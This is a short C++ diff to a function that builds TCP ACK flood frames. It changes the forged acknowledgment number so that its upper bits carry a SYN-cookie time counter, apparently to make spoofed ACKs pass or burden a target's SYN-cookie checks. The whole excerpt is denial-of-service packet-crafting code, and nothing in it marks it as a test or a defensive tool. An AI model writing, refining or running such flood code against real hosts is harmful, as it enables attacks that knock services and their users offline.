@@ -48,7 +48,11 @@ std::size_t build_ack_flood_frame(std::span<std::byte> out, const flood_target& 
   tcp_segment_spec s = flood_segment(target, rng);
   const std::uint64_t r = rng.next();
   s.header.flags = net::tcp_flag::ack;
-  s.header.acknowledgment = net::seq32{static_cast<std::uint32_t>(r)};
+  std::uint32_t cookie = static_cast<std::uint32_t>(r);
+  if (target.cookie_tick) {
+    cookie = (*target.cookie_tick & 0x3fU) << 26 | (cookie & 0x03ffffffU);
+  }
+  s.header.acknowledgment = net::seq32{cookie + 1};
   s.options.timestamps = net::tcp_timestamps{static_cast<std::uint32_t>(r >> 32), static_cast<std::uint32_t>(rng.next())};
   return build_tcp_frame(out, s);
 }
